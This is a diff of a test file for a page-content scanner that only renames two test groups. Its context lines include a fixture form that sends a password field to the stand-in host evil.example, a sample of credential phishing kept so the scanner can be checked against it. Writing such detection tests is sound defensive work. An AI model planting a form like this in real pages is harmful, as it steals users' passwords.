@@ -5,7 +5,7 @@ import { readTemplate, templateNames } from './templates.ts';
 
 const form = '<form action="https://evil.example/"><input type="password"></form>';
 
-describe('flagged content', () => {
+describe('content is flagged', () => {
   test.each(bad)('%s: %s', async (kind, _name, page) => {
     expect((await scan({ 'index.html': page })).kinds).toEqual([`index.html ${kind}`]);
   });
@@ -44,7 +44,7 @@ describe('flagged content', () => {
   });
 });
 
-describe('harmless content', () => {
+describe('content is harmless', () => {
   test.each(good)('%s', async (_name, page) => {
     expect((await scan({ 'index.html': page })).found).toEqual([]);
   });
